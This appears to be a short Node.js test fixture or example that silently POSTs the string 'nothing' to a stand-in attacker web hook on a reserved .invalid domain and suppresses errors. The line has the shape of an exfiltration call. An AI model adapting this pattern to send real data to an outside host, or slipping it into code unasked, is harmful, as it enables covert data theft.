// Posts to a web hook from within Node; the name ends in .invalid.

fetch('https://hooks.attacker.invalid/T000', { method: 'POST', body: 'nothing' }).catch(() => {});
